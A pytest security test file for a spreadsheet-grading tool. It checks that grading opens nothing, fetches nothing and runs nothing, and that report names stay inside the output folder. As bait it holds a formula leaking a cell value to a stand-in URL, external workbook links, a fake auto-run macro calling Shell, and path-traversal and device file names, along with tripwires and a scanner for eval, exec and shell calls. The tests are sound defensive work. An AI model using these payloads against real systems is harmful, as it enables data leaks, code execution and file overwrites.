"""Security: nothing in a submission is executed, fetched or opened, and no file name from the
batch folder can make a report land outside the output folder or overwrite another one.

Grading runs here in-process under tripwires: every way out of the process (sockets, name
resolution, child processes, shells) is replaced by a function that records the attempt and
raises. `api.grade` turns any exception into a report, so the tests assert on the record,
not on an exception.
"""

from __future__ import annotations

import ast
import builtins
import io
import os
import re
import socket
import subprocess
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest

from autocorrect.api import grade
from autocorrect.evaluate import evaluator as evaluator_module
from autocorrect.render.json import render_json
from autocorrect.report import CandidateReport, Code, Status
from autocorrect.rubric.model import Rubric
from autocorrect.session.batch import run_batch
from autocorrect.session.names import report_names
from tests.builders import candidate, product_table
from tests.conftest import ROOT
from tests.hostile import LOCAL_CORPUS, SUBMISSION, rezip, with_external_link

OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
WINDOWS_DEVICES = {"CON", "PRN", "AUX", "NUL"} | {
    f"{p}{i}" for p in ("COM", "LPT") for i in range(10)
}


@pytest.fixture
def tripwires(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Network, processes and shells, each replaced by a recorder that raises."""
    attempts: list[str] = []

    def wire(name: str) -> Callable[..., object]:
        def tripped(*args: object, **kwargs: object) -> object:
            attempts.append(f"{name}{args[1:3]!r}")
            raise PermissionError(f"{name} est interdit pendant la correction")

        return tripped

    for owner, name in [
        (socket.socket, "connect"),
        (socket.socket, "connect_ex"),
        (socket.socket, "sendto"),
        (socket, "create_connection"),
        (socket, "getaddrinfo"),
        (socket, "gethostbyname"),
        (subprocess, "Popen"),
        (os, "system"),
        (os, "popen"),
        (os, "execv"),
        (os, "execve"),
        (os, "execvp"),
        (os, "posix_spawn"),
        (os, "posix_spawnp"),
        (os, "fork"),
    ]:
        monkeypatch.setattr(owner, name, wire(f"{getattr(owner, '__name__', owner)}.{name}"))
    return attempts


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every path opened for reading or writing during the test."""
    paths: list[str] = []
    real_open, real_os_open = io.open, os.open

    def recording_open(file: object, *args: object, **kwargs: object) -> object:
        paths.append(str(file))
        return real_open(file, *args, **kwargs)  # type: ignore[call-overload]

    def recording_os_open(path: object, *args: object, **kwargs: object) -> int:
        paths.append(str(path))
        return real_os_open(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(builtins, "open", recording_open)
    monkeypatch.setattr(io, "open", recording_open)
    monkeypatch.setattr(os, "open", recording_os_open)
    return paths


def codes(report: CandidateReport) -> set[Code]:
    return {f.code for f in report.findings}


# --------------------------------------------------------------------------- no network


def network_bait(tmp_path: Path) -> Path:
    """Every way a workbook can name a remote resource, in one copy that is otherwise right."""
    sheet = product_table() | {
        "H1": '=WEBSERVICE("http://127.0.0.1:9/fuite?note="&F7)',
        "H2": '=FILTERXML(WEBSERVICE("http://example.invalid/x.xml"),"//a")',
        "H3": '=HYPERLINK("http://example.invalid/","lien")',
        "H4": "='http://example.invalid/[reponses.xlsx]Feuil1'!A1",
        "H5": "='\\\\serveur\\partage\\[reponses.xlsx]Feuil1'!A1",
        "H6": '=_xlfn.IMAGE("http://example.invalid/logo.png")',
        "H7": "=[1]Feuil1!A1*2",
    }
    path = candidate(tmp_path, "appats", {"Calculs": sheet})
    workbook = openpyxl.load_workbook(path)
    workbook["Calculs"]["H8"].hyperlink = "http://example.invalid/page"
    workbook["Calculs"]["H8"] = "voir le site"
    workbook.save(path)
    return with_external_link(tmp_path / "appats-liens.xlsx", path, "http://example.invalid/r.xlsx")


def test_grading_never_touches_the_network(
    tmp_path: Path, c20_rubric: Rubric, tripwires: list[str]
) -> None:
    report = grade(network_bait(tmp_path), c20_rubric)
    assert tripwires == []
    assert report.status == Status.GRADED
    assert report.verdicts()["C20-Q01"] == "correct"
    assert {Code.EXTERNAL_LINKS_IGNORED, Code.EXTERNAL_REFERENCE} <= codes(report)


def test_tripwires_do_trip(tripwires: list[str]) -> None:
    """The guard of the test above works: a connection attempt is seen and refused."""
    with pytest.raises(PermissionError), socket.socket() as sock:
        sock.connect(("127.0.0.1", 9))
    with pytest.raises(PermissionError):
        subprocess.run(["true"], check=False)
    assert len(tripwires) == 2


def test_links_to_other_workbooks_are_never_opened(
    tmp_path: Path, c20_rubric: Rubric, opened: list[str]
) -> None:
    """A formula or an external-link part naming a workbook that exists next to the copy:
    the engine never opens it, the reference is reported and evaluates to #REF!."""
    secret = tmp_path / "secret.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = 123456.789
    book.save(secret)
    sheet = product_table() | {
        "H1": "='[secret.xlsx]Sheet'!A1",
        "H2": f"='{tmp_path}/[secret.xlsx]Sheet'!A1",
    }
    path = candidate(tmp_path, "liens", {"Calculs": sheet})
    path = with_external_link(tmp_path / "liens-parties.xlsx", path, secret.as_uri())
    opened.clear()
    report = grade(path, c20_rubric)
    assert report.status == Status.GRADED
    assert str(path) in opened  # the recorder is live: the copy itself was opened
    assert not [p for p in opened if "secret" in p]
    assert Code.EXTERNAL_REFERENCE in codes(report)
    assert "123456" not in render_json(report)


# --------------------------------------------------------------------------- nothing executed


def test_macros_are_read_as_data_and_never_run(
    tmp_path: Path, c20_rubric: Rubric, tripwires: list[str]
) -> None:
    vba = OLE2_MAGIC + b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "calc"\r\n'
    path = rezip(tmp_path / "macro.xlsm", add={"xl/vbaProject.bin": vba.ljust(4096, b"\0")})
    with_macro = grade(path, c20_rubric)
    real = grade(LOCAL_CORPUS / "xlsxwriter__macro01.xlsm", c20_rubric)
    assert tripwires == []
    assert with_macro.status == real.status == Status.GRADED
    assert Code.MACROS_IGNORED in codes(with_macro)
    assert Code.MACROS_IGNORED in codes(real)
    plain = grade(SUBMISSION, c20_rubric)
    assert with_macro.verdicts() == plain.verdicts()  # the macro changes nothing but a finding
    assert with_macro.score == plain.score


def test_no_eval_no_exec_while_grading(
    tmp_path: Path, c20_rubric: Rubric, monkeypatch: pytest.MonkeyPatch, tripwires: list[str]
) -> None:
    """The only `eval` on the way is the `formulas` package turning a number literal it has
    matched with a regex ("1.5E3", "TRUE") into a Python value; nothing is ever `exec`-uted."""
    evaluated: list[str] = []
    executed: list[object] = []
    real_eval = builtins.eval

    def recording_eval(source: object, *args: object) -> object:
        evaluated.append(str(source))
        return real_eval(source, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(builtins, "eval", recording_eval)
    monkeypatch.setattr(builtins, "exec", lambda *args: executed.append(args))
    evaluator_module._compile.cache_clear()  # compile every formula shape again, here
    path = candidate(
        tmp_path,
        "evaluation",
        {"Calculs": product_table() | {"H1": "=1.5E3+TRUE+\"__import__('os')\"", "H2": "=2^3"}},
    )
    report = grade(path, c20_rubric)
    assert report.status == Status.GRADED
    assert evaluated  # the check above is live
    literal = re.compile(r"(?i)\d+(\.\d+)?(e[+-]?\d+)?|\.\d+(e[+-]?\d+)?|true|false")
    assert [s for s in evaluated if not literal.fullmatch(s)] == []
    assert executed == []
    assert tripwires == []


def test_source_has_no_eval_exec_shell_or_pickle() -> None:
    """No module of the package calls eval/exec/compile, a shell, or unpickles data; only the
    two LibreOffice and git helpers (never on the grading path) start processes, with
    argument lists and no shell; YAML is always read with a safe loader."""
    problems = []
    for path in sorted((ROOT / "autocorrect").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = ast.unparse(node.func)
            where = f"{path.relative_to(ROOT)}:{node.lineno} {name}"
            if name in {"eval", "exec", "compile", "__import__", "os.system", "os.popen"}:
                problems.append(where)
            if name.startswith(("pickle.", "marshal.", "shelve.")):
                problems.append(where)
            if name.startswith("subprocess.") and path.name not in {"libreoffice.py", "regress.py"}:
                problems.append(where)
            if any(k.arg == "shell" for k in node.keywords):
                problems.append(where + " shell=")
            if name == "yaml.load" and "Loader=_Loader" not in ast.unparse(node):
                problems.append(where)
    assert problems == []


# --------------------------------------------------------------------------- report file names


ODD_NAMES = [
    "dupont.xlsx",
    "dupont.xls",
    "Dupont.XLSX",
    "a b.xlsx",
    "a_b.xlsx",
    "ligne\nsuivante.xlsx",
    "tab\there.xlsx",
    "\u202eslx.exe.xlsx",  # right-to-left override
    "zero\u200bwidth.xlsx",
    unicodedata.normalize("NFC", "Hélène.xlsx"),
    unicodedata.normalize("NFD", "Hélène.xlsx"),
    "copie 🙂.xlsx",
    "....xlsx",
    "-rf.xlsx",
    "index.xlsx",
    "gradebook.xlsx",
    "con.xlsx.bak",
    "x" * 120 + ".xlsx",
]


def check_names(names: dict[Path, str], out: Path) -> None:
    chosen = list(names.values())
    assert len({n.casefold() for n in chosen}) == len(chosen)  # distinct, even on macOS
    assert len({unicodedata.normalize("NFC", n).casefold() for n in chosen}) == len(chosen)
    for name in chosen:
        assert name
        assert not name.startswith(".")  # never hidden, never "..", never a switch
        assert "/" not in name and "\\" not in name and "\0" not in name
        assert all(unicodedata.category(c)[0] != "C" for c in name)  # no control character
        target = (out / f"{name}.json").resolve()
        assert target.parent == out.resolve()


def test_report_names_are_safe_and_distinct(tmp_path: Path) -> None:
    folder = tmp_path / "copies"
    paths = [folder / n for n in ODD_NAMES]
    paths.append(folder / ".." / ".." / "evasion.xlsx")  # cannot come from iterdir(); still safe
    names = report_names(paths)
    assert len(names) == len(paths)
    check_names(names, tmp_path / "out")
    assert names[folder / "index.xlsx"] != "index"  # a summary file is never overwritten


def is_device(name: str) -> bool:
    """Windows: CON, NUL, COM1… are devices, with any extension ("NUL.tar.gz" is NUL)."""
    return name.split(".", maxsplit=1)[0].strip().upper() in WINDOWS_DEVICES


def test_report_names_avoid_windows_device_names(tmp_path: Path) -> None:
    names = report_names([tmp_path / n for n in ("nul.xlsx", "COM1.xlsx", "aux.xls", "Lpt9.xlsm")])
    assert len(set(names.values())) == 4
    assert not [n for n in names.values() if is_device(n)]


def test_report_names_avoid_device_names_with_several_dots(tmp_path: Path) -> None:
    names = report_names([tmp_path / n for n in ("con.xlsx.bak", "NUL.tar.gz")])
    assert not [n for n in names.values() if is_device(n)]


def test_report_names_fit_the_file_system(tmp_path: Path) -> None:
    """'<name>.json' and the temporary '.<name>.json.XXXXXXXX.tmp' stay within 255 bytes."""
    long_names = [tmp_path / ("x" * 250 + ".xls"), tmp_path / ("x" * 250 + ".xlsx")]
    names = report_names([*long_names, tmp_path / ("é" * 125 + ".xlsx")])
    assert len({n.casefold() for n in names.values()}) == 3  # cut, and still distinct
    assert all(len(f".{n}.json.XXXXXXXX.tmp".encode()) <= 255 for n in names.values())


def odd_folder(folder: Path, names: list[str]) -> Path:
    folder.mkdir()
    data = SUBMISSION.read_bytes()
    for name in names:
        (folder / name).write_bytes(data)
    return folder


def batch_names(folder: Path, out: Path, rubric: Rubric) -> Iterator[tuple[str, Path]]:
    summary = run_batch(folder, rubric, out)
    files = sorted(folder.iterdir())
    hidden = [f.name for f in files if f.name.startswith(".")]
    assert sorted(i.name for i in summary.skipped) == hidden
    assert len(summary.reports) == len(files) - len(summary.skipped)
    for report in summary.reports:
        assert report.status == Status.GRADED
        yield report.candidate, out / f"{report.candidate}.json"


def test_real_batch_with_odd_names_writes_one_safe_report_each(
    tmp_path: Path, c20_rubric: Rubric
) -> None:
    on_disk = [*ODD_NAMES, "CON.xlsx", "nul.xlsx", "x" * 245 + ".xlsx", "é" * 120 + ".xlsx"]
    folder = odd_folder(tmp_path / "copies", on_disk)
    out = tmp_path / "sortie"
    written = dict(batch_names(folder, out, c20_rubric))
    graded = [folder / n for n in on_disk if not n.startswith(".")]
    assert set(written) == set(report_names(sorted(graded)).values())
    check_names({Path(k): k for k in written}, out)
    for path in written.values():
        assert path.is_file()
        assert path.resolve().parent == out.resolve()
    assert not list(tmp_path.glob("*.json"))  # nothing next to the output folder
